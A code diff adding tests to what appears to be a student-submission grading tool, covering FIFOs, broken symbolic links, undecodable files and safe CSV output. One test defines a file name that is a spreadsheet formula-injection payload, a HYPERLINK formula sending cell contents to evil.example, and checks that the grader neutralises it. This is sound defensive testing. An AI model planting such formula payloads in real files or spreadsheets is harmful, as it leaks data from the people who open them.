@@ -158,6 +158,15 @@ def test_a_file_that_is_not_text_is_judged_a_compile_error_not_a_usage_error(tmp
     assert all(test["not_run"] for test in report["tests"][1:])
 
 
+def test_a_pipe_or_a_broken_link_is_one_line_and_nothing_waits(tmp_path: Path) -> None:
+    """A FIFO named like a file is refused before it is opened: reading it would wait for a writer forever."""
+    os.mkfifo(tmp_path / "pipe.py")
+    (tmp_path / "dangling.py").symlink_to(tmp_path / "gone.py")
+    assert_one_line_error(judge("run", "patchify", str(tmp_path / "pipe.py")), "pipe.py", "not a regular file")
+    assert_one_line_error(judge("run", "patchify", str(tmp_path / "dangling.py")), "dangling.py",
+                          "broken symbolic link")
+
+
 def test_directory_instead_of_a_file() -> None:
     assert_one_line_error(judge("run", "patchify", "submissions/patchify/accepted"),
                           "submissions/patchify/accepted", "directory")
@@ -394,3 +403,42 @@ def test_a_lone_surrogate_bidi_and_osc_in_a_message_and_a_name_that_is_not_utf8(
 
     history = _judge_bytes("history", env=env)
     assert history.returncode == 0 and "hostile\\xff.py" in history.stdout.decode("utf-8"), history.stderr
+
+
+# ---------------------------------------------------------------- judge grade: what an instructor's CSV holds
+
+FORMULA_NAME = '=HYPERLINK("evil.example?"&A1,"grade").py'   # no slash: a real file name
+
+
+def test_grade_writes_no_formula_and_grades_the_class_around_files_it_cannot_read(tmp_path: Path) -> None:
+    """A file named as a formula is a quoted cell; a broken link and a FIFO are one-line judge_error rows (not
+    judged: exit 1), undecodable bytes a compile error, and every other file is graded."""
+    import csv
+
+    directory = tmp_path / "class"
+    directory.mkdir()
+    shutil.copy(REPO / ACCEPTED, directory / "accepted.py")
+    shutil.copy(REPO / ACCEPTED, directory / FORMULA_NAME)
+    (directory / "latin1.py").write_bytes(b"# caf\xe9\ndef patchify(a, b, c):\n    return 1\n")
+    (directory / "dangling.py").symlink_to(directory / "handed_in_elsewhere.py")
+    os.mkfifo(directory / "pipe.py")
+    out = tmp_path / "grades.csv"
+    result = judge("grade", "patchify", str(directory), "--workers", "2", "--csv", str(out),
+                   env={"JUDGE_NO_RECORD": "1"})
+    assert result.returncode == 1, (result.stdout, result.stderr)   # two files were not judged
+    assert "Traceback" not in result.stderr
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = {r["file"]: r for r in csv.DictReader(handle)}
+    assert {name: r["verdict"] for name, r in rows.items()} == {
+        "'" + FORMULA_NAME: "accepted", "accepted.py": "accepted", "dangling.py": "judge_error",
+        "latin1.py": "compile_error", "pipe.py": "judge_error"}
+    assert rows["dangling.py"]["message"] == "not judged: a broken symbolic link: what it names is gone"
+    assert rows["pipe.py"]["message"].startswith("not judged: not a regular file")
+    for row in rows.values():
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
+    table = result.stdout.splitlines()
+    assert len(table) == 1 + 5 + 1 and "5 submissions" in table[-1]
+    assert any(line.startswith("dangling.py") and "not judged: a broken symbolic link" in line for line in table)
+    plain = json.loads(judge("grade", "patchify", str(directory), "--json", env={"JUDGE_NO_RECORD": "1"}).stdout)
+    assert plain["counts"] == {"accepted": 2, "compile_error": 1, "judge_error": 2}
+    assert FORMULA_NAME in {r["file"] for r in plain["rows"]}   # JSON is no spreadsheet: the name as it is
